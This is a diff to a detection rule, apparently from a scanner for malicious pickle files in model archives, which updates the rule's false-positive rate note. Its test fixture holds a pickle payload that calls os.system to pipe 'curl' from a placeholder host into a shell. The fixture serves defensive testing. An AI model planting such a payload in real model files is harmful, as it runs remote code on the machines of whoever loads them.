@@ -28,5 +28,5 @@ RULE = Rule(
     find=_find,
     fires={"acme/model.pkl": "cposix\nsystem\n(S'curl https://example.test/x | sh'\ntR."},
     quiet={"acme/model.pkl": "ccollections\nOrderedDict\n(tR."},
-    rates="see docs/benchmarks.md",
+    rates="none of 1,668 popular archives and ones drawn at random, 31 of which bring 1,218 such files",
 )
